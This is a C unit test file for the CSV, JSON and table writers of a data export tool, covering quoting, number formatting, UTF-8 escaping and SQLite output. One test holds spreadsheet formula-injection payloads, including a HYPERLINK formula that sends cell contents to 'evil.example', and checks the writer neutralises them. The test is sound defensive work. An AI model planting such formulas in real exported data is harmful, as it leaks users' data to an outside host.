/* test_out.c - rpd_fmt_parse, the table/CSV/JSON writers, rpd_out_stmt and
 * rpd_json_escape. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>
#include <math.h>
#include <stdlib.h>
#include <string.h>

#include "core_fixture.h"

static const char *hostile[] = {
  "plain", "with,comma", "with \"quotes\"", "line\nbreak", "cr\rlf\r\n",
  "", "  spaced  ", "\"", ",", "trailing\"", "x\"\"y", "tab\there",
  "caf\xc3\xa9", NULL,
};

/* Parse one RFC 4180 record at *p into fields[] (each malloc'd); returns
 * the number of fields, advances *p past the CRLF. */
static int csv_parse_record(const char **p, char **fields, int max)
{
  const char *s = *p;
  int n = 0;
  for (;;) {
    rpd_buf b = {0};
    rpd_buf_add(&b, "", 0);
    if (*s == '"') {
      s++;
      for (;;) {
        assert_true(*s != '\0');
        if (*s == '"' && s[1] == '"') { rpd_buf_add(&b, "\"", 1); s += 2; }
        else if (*s == '"') { s++; break; }
        else rpd_buf_add(&b, s++, 1);
      }
    } else {
      while (*s && *s != ',' && *s != '\r')
        rpd_buf_add(&b, s++, 1);
    }
    assert_true(n < max);
    fields[n++] = b.s ? b.s : strdup("");
    if (*s == ',') { s++; continue; }
    assert_true(s[0] == '\r' && s[1] == '\n');
    *p = s + 2;
    return n;
  }
}

static void test_fmt_parse(void **state)
{
  rpd_fmt f = RPD_FMT_JSON;
  (void)state;
  assert_int_equal(rpd_fmt_parse("table", &f), RPD_OK);
  assert_int_equal(f, RPD_FMT_TABLE);
  assert_int_equal(rpd_fmt_parse("csv", &f), RPD_OK);
  assert_int_equal(f, RPD_FMT_CSV);
  assert_int_equal(rpd_fmt_parse("json", &f), RPD_OK);
  assert_int_equal(f, RPD_FMT_JSON);
  assert_int_equal(rpd_fmt_parse("xlsx", &f), RPD_EPARSE);
  assert_non_null(strstr(rpd_errmsg(), "'xlsx'"));
  assert_int_equal(rpd_fmt_parse(NULL, &f), RPD_EPARSE);
}

static void test_csv_round_trip(void **state)
{
  FILE *f = tmpfile();
  const char *names[] = {"name", "we,ird \"col\""};
  char *text, *fields[4];
  const char *p;
  int n;
  (void)state;
  rpd_out *o = rpd_out_new(f, RPD_FMT_CSV, 2, names);
  for (int i = 0; hostile[i]; i++) {
    rpd_out_str(o, hostile[i]);
    rpd_out_int(o, i);
    rpd_out_endrow(o);
  }
  assert_int_equal(rpd_out_end(o), RPD_OK);
  text = fx_stream_text(f);
  p = text;
  n = csv_parse_record(&p, fields, 4);
  assert_int_equal(n, 2);
  assert_string_equal(fields[0], "name");
  assert_string_equal(fields[1], "we,ird \"col\"");
  free(fields[0]); free(fields[1]);
  for (int i = 0; hostile[i]; i++) {
    char num[16];
    n = csv_parse_record(&p, fields, 4);
    assert_int_equal(n, 2);
    assert_string_equal(fields[0], hostile[i]);
    snprintf(num, sizeof num, "%d", i);
    assert_string_equal(fields[1], num);
    free(fields[0]); free(fields[1]);
  }
  assert_string_equal(p, "");
  free(text);
  fclose(f);
}

/* A text a spreadsheet would run as a formula gets a leading quote in
 * every CSV writer (rpd_out and rpd_csv_field); numbers never do; with
 * rpd_csv_raw the text is written as it is. */
static void test_csv_formula(void **state)
{
  static const char *const cases[][2] = {
    {"=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"click\")",
     "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"click\"\")\""},
    {"+1+cmd", "'+1+cmd"}, {"-2+3", "'-2+3"}, {"@SUM(A1)", "'@SUM(A1)"},
    {"\tx", "'\tx"}, {"\rx", "\"'\rx\""}, {"-12", "-12"}, {"+3.5e-7", "+3.5e-7"},
    {"-.5", "-.5"}, {"-", "'-"}, {"-e5", "'-e5"}, {"a=b", "a=b"}, {"", ""},
  };
  const char *names[] = {"name", "n"};
  (void)state;
  for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
    rpd_buf b = {0};
    FILE *f = tmpfile();
    char *text, want[256];
    rpd_csv_field(&b, cases[i][0], 0);
    assert_string_equal(b.s ? b.s : "", cases[i][1]);
    rpd_buf_free(&b);
    rpd_out *o = rpd_out_new(f, RPD_FMT_CSV, 2, names);
    rpd_out_str(o, cases[i][0]);
    rpd_out_double(o, -1.5, 1);
    rpd_out_endrow(o);
    assert_int_equal(rpd_out_end(o), RPD_OK);
    text = fx_stream_text(f);
    snprintf(want, sizeof want, "name,n\r\n%s,-1.5\r\n", cases[i][1]);
    assert_string_equal(text, want);
    free(text);
    fclose(f);
  }
  rpd_buf b = {0};
  rpd_csv_field(&b, "=1+1", 1);
  assert_string_equal(b.s, "\"'=1+1\"");
  rpd_buf_reset(&b);
  rpd_csv_raw = 1;
  rpd_csv_field(&b, "=1+1", 0);
  rpd_csv_raw = 0;
  assert_string_equal(b.s, "=1+1");
  rpd_buf_free(&b);
}

static void test_csv_exact(void **state)
{
  FILE *f = tmpfile();
  const char *names[] = {"a", "b", "c", "d"};
  char *text;
  (void)state;
  rpd_out *o = rpd_out_new(f, RPD_FMT_CSV, 4, names);
  rpd_out_str(o, "x");
  rpd_out_null(o);
  rpd_out_double(o, 16845.735294117647, -1);
  rpd_out_double(o, 2.0 / 3.0, 3);
  rpd_out_endrow(o);
  rpd_out_str(o, "say \"hi\"");  /* short row: the rest is NULL */
  rpd_out_endrow(o);
  assert_int_equal(rpd_out_end(o), RPD_OK);
  text = fx_stream_text(f);
  assert_string_equal(text, "a,b,c,d\r\n"
                            "x,,16845.735294117647,0.667\r\n"
                            "\"say \"\"hi\"\"\",,,\r\n");
  free(text);
  fclose(f);
}

static void test_ints(void **state)
{
  FILE *f = tmpfile();
  const char *names[] = {"i"};
  const int64_t v[] = {0, 7, -7, 1234567890123, INT64_MAX, INT64_MIN};
  char *text;
  (void)state;
  rpd_out *o = rpd_out_new(f, RPD_FMT_CSV, 1, names);
  for (size_t i = 0; i < sizeof v / sizeof v[0]; i++) {
    rpd_out_int(o, v[i]);
    rpd_out_endrow(o);
  }
  assert_int_equal(rpd_out_end(o), RPD_OK);
  text = fx_stream_text(f);
  assert_string_equal(text, "i\r\n0\r\n7\r\n-7\r\n1234567890123\r\n"
                            "9223372036854775807\r\n-9223372036854775808\r\n");
  free(text);
  fclose(f);
}

static void test_double_repr(void **state)
{
  static const struct { double v; const char *s; } cases[] = {
    {0.0, "0.0"}, {-0.0, "-0.0"}, {3.0, "3.0"}, {0.1, "0.1"},
    {1e16, "1e+16"}, {1234567890123456.0, "1234567890123456.0"},
    {1.5e-7, "1.5e-07"}, {0.0001, "0.0001"}, {0.00001, "1e-05"},
    {72.20505648267009, "72.20505648267009"}, {-2.5, "-2.5"},
    {1e300, "1e+300"}, {123450000.0, "123450000.0"},
    {1.0 / 7.0, "0.14285714285714285"}, {5e-324, "5e-324"},
    {1.7976931348623157e308, "1.7976931348623157e+308"}, {0.3, "0.3"},
    {2.0 / 3.0, "0.6666666666666666"}, {9007199254740993.0, "9007199254740992.0"},
  };
  (void)state;
  for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
    FILE *f = tmpfile();
    const char *names[] = {"v"};
    char *text, want[64];
    rpd_out *o = rpd_out_new(f, RPD_FMT_CSV, 1, names);
    rpd_out_double(o, cases[i].v, -1);
    rpd_out_endrow(o);
    assert_int_equal(rpd_out_end(o), RPD_OK);
    text = fx_stream_text(f);
    snprintf(want, sizeof want, "v\r\n%s\r\n", cases[i].s);
    assert_string_equal(text, want);
    free(text);
    fclose(f);
  }
}

/* Significant digits of a repr-style number ("-0.00125" -> 3,
 * "123450000.0" -> 5). */
static int sig_digits(const char *s)
{
  char d[40];
  int n = 0, lead = 1;
  for (; *s && *s != 'e' && n < 39; s++) {
    if (*s < '0' || *s > '9')
      continue;
    if (lead && *s == '0')
      continue;
    lead = 0;
    d[n++] = *s;
  }
  while (n > 0 && d[n - 1] == '0')
    n--;
  return n;
}

/* Random doubles: the text reads back exactly, and one digit fewer never
 * does (shortest). */
static void test_double_shortest_random(void **state)
{
  enum { N = 20000 };
  const char *names[] = {"v"};
  static double vals[N];
  unsigned long long x = 88172645463325252ULL;
  FILE *f = tmpfile();
  char *text, *line, shorter[40];
  int n = 0;
  (void)state;
  rpd_out *o = rpd_out_new(f, RPD_FMT_CSV, 1, names);
  while (n < N) {
    double v;
    x ^= x << 13; x ^= x >> 7; x ^= x << 17;   /* xorshift64 */
    if (n % 2) memcpy(&v, &x, sizeof v);
    else v = (double)(x >> 20) / (double)((x & 0xfff) + 1);
    if (isnan(v) || isinf(v))
      continue;
    vals[n++] = v;
    rpd_out_double(o, v, -1);
    rpd_out_endrow(o);
  }
  assert_int_equal(rpd_out_end(o), RPD_OK);
  text = fx_stream_text(f);
  fclose(f);
  line = strstr(text, "\r\n") + 2;
  for (int i = 0; i < N; i++) {
    char *end = strstr(line, "\r\n");
    int nd;
    assert_non_null(end);
    *end = '\0';
    if (strtod(line, NULL) != vals[i])
      fail_msg("%s does not read back as %a", line, vals[i]);
    nd = sig_digits(line);
    if (nd > 1 && vals[i] != 0) {
      snprintf(shorter, sizeof shorter, "%.*e", nd - 2, vals[i]);
      if (strtod(shorter, NULL) == vals[i])
        fail_msg("%s is not shortest: %s reads back too", line, shorter);
    }
    line = end + 2;
  }
  free(text);
}

static char *escaped(const char *s)
{
  rpd_buf b = {0};
  rpd_buf_puts(&b, "");
  rpd_json_escape(&b, s);
  return b.s;
}

#define ESC_EQ(in, out) do { char *e_ = escaped(in); \
    assert_string_equal(e_, out); free(e_); } while (0)

static void test_json_escape(void **state)
{
  (void)state;
  ESC_EQ("plain", "plain");
  ESC_EQ("say \"hi\"", "say \\\"hi\\\"");
  ESC_EQ("C:\\dir\\", "C:\\\\dir\\\\");
  ESC_EQ("a\tb\nc\rd\be\ff", "a\\tb\\nc\\rd\\be\\ff");
  ESC_EQ("\x01\x1f\x7f", "\\u0001\\u001f\x7f");
  /* valid multi-byte sequences are kept: 2, 3 and 4 bytes */
  ESC_EQ("caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80", "caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80");
  /* invalid bytes become U+FFFD */
  ESC_EQ("a\xff" "b", "a\xef\xbf\xbd" "b");
  ESC_EQ("\xc3", "\xef\xbf\xbd");                     /* truncated at end */
  ESC_EQ("\xe2\x82" "x", "\xef\xbf\xbd" "x");          /* truncated: one FFFD */
  ESC_EQ("\xc0\xaf", "\xef\xbf\xbd\xef\xbf\xbd");      /* overlong '/' */
  ESC_EQ("\xed\xa0\x80", "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd"); /* surrogate */
  ESC_EQ("\xf4\x90\x80\x80", "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd"); /* > U+10FFFF */
  ESC_EQ("", "");
  ESC_EQ(NULL, "");
}

static void test_json_writer(void **state)
{
  FILE *f = tmpfile();
  const char *names[] = {"name", "n", "avg", "none", "q\"k"};
  char *text;
  (void)state;
  rpd_out *o = rpd_out_new(f, RPD_FMT_JSON, 5, names);
  rpd_out_str(o, "a\"b\\c\td");
  rpd_out_int(o, -42);
  rpd_out_double(o, 0.5, -1);
  rpd_out_null(o);
  rpd_out_str(o, "\xff");
  rpd_out_endrow(o);
  rpd_out_str(o, "x");
  rpd_out_int(o, INT64_MAX);
  rpd_out_double(o, NAN, -1);
  rpd_out_double(o, 1.0 / 3.0, 2);
  rpd_out_null(o);
  rpd_out_endrow(o);
  assert_int_equal(rpd_out_end(o), RPD_OK);
  text = fx_stream_text(f);
  assert_string_equal(text,
    "[\n"
    "{\"name\": \"a\\\"b\\\\c\\td\", \"n\": -42, \"avg\": 0.5, \"none\": null, \"q\\\"k\": \"\xef\xbf\xbd\"},\n"
    "{\"name\": \"x\", \"n\": 9223372036854775807, \"avg\": null, \"none\": 0.33, \"q\\\"k\": null}\n"
    "]\n");
  free(text);
  fclose(f);

  f = tmpfile();
  o = rpd_out_new(f, RPD_FMT_JSON, 5, names);
  assert_int_equal(rpd_out_end(o), RPD_OK);
  text = fx_stream_text(f);
  assert_string_equal(text, "[]\n");
  free(text);
  fclose(f);
}

static void test_table(void **state)
{
  FILE *f = tmpfile();
  const char *names[] = {"kernel", "calls", "avg_us"};
  char *text;
  (void)state;
  rpd_out *o = rpd_out_new(f, RPD_FMT_TABLE, 3, names);
  rpd_out_str(o, "Cijk_Alik");
  rpd_out_int(o, 12345);
  rpd_out_double(o, 1.5, 2);
  rpd_out_endrow(o);
  rpd_out_str(o, "caf\xc3\xa9\nx");
  rpd_out_int(o, 7);
  rpd_out_null(o);
  rpd_out_endrow(o);
  assert_int_equal(rpd_out_end(o), RPD_OK);
  text = fx_stream_text(f);
  assert_string_equal(text,
    "kernel     calls  avg_us\n"
    "---------  -----  ------\n"
    "Cijk_Alik  12345    1.50\n"
    "caf\xc3\xa9 x         7\n");
  free(text);
  fclose(f);
}

static void test_out_stmt(void **state)
{
  sqlite3 *db;
  sqlite3_stmt *st;
  FILE *f;
  char *text;
  (void)state;
  assert_int_equal(sqlite3_open(":memory:", &db), SQLITE_OK);
  assert_int_equal(sqlite3_exec(db,
    "CREATE TABLE t(id INTEGER, name TEXT, dur REAL, x);"
    "INSERT INTO t VALUES(1, 'a,b', 2.5, NULL), (2, 'q\"', 3.0, 'z'),"
    " (3, NULL, 0.1, 4);", NULL, NULL, NULL), SQLITE_OK);

  f = tmpfile();
  assert_int_equal(sqlite3_prepare_v2(db, "SELECT id, name, dur, x FROM t ORDER BY id",
                                      -1, &st, NULL), SQLITE_OK);
  assert_int_equal(rpd_out_stmt(NULL, st, f, RPD_FMT_CSV), RPD_OK);
  sqlite3_finalize(st);
  text = fx_stream_text(f);
  assert_string_equal(text, "id,name,dur,x\r\n1,\"a,b\",2.5,\r\n2,\"q\"\"\",3.0,z\r\n3,,0.1,4\r\n");
  free(text);
  fclose(f);

  f = tmpfile();
  assert_int_equal(sqlite3_prepare_v2(db, "SELECT id, name, dur AS \"d\", x FROM t ORDER BY id",
                                      -1, &st, NULL), SQLITE_OK);
  assert_int_equal(rpd_out_stmt(NULL, st, f, RPD_FMT_JSON), RPD_OK);
  sqlite3_finalize(st);
  text = fx_stream_text(f);
  assert_string_equal(text,
    "[\n"
    "{\"id\": 1, \"name\": \"a,b\", \"d\": 2.5, \"x\": null},\n"
    "{\"id\": 2, \"name\": \"q\\\"\", \"d\": 3.0, \"x\": \"z\"},\n"
    "{\"id\": 3, \"name\": null, \"d\": 0.1, \"x\": 4}\n"
    "]\n");
  free(text);
  fclose(f);

  f = tmpfile();
  assert_int_equal(sqlite3_prepare_v2(db, "SELECT id, name FROM t WHERE id > 1 ORDER BY id",
                                      -1, &st, NULL), SQLITE_OK);
  assert_int_equal(rpd_out_stmt(NULL, st, f, RPD_FMT_TABLE), RPD_OK);
  sqlite3_finalize(st);
  text = fx_stream_text(f);
  assert_string_equal(text, "id  name\n--  ----\n 2  q\"\n 3\n");
  free(text);
  fclose(f);
  sqlite3_close(db);
}

static void test_write_error(void **state)
{
  FILE *f = fopen("/dev/full", "w");
  const char *names[] = {"a"};
  (void)state;
  if (!f)
    skip();
  rpd_out *o = rpd_out_new(f, RPD_FMT_CSV, 1, names);
  for (int i = 0; i < 10000; i++) {
    rpd_out_int(o, i);
    rpd_out_endrow(o);
  }
  assert_int_equal(rpd_out_end(o), RPD_EIO);
  fclose(f);
}

int main(void)
{
  const struct CMUnitTest tests[] = {
    cmocka_unit_test(test_fmt_parse),
    cmocka_unit_test(test_csv_round_trip),
    cmocka_unit_test(test_csv_exact),
    cmocka_unit_test(test_ints),
    cmocka_unit_test(test_double_repr),
    cmocka_unit_test(test_double_shortest_random),
    cmocka_unit_test(test_json_escape),
    cmocka_unit_test(test_json_writer),
    cmocka_unit_test(test_table),
    cmocka_unit_test(test_out_stmt),
    cmocka_unit_test(test_csv_formula),
    cmocka_unit_test(test_write_error),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
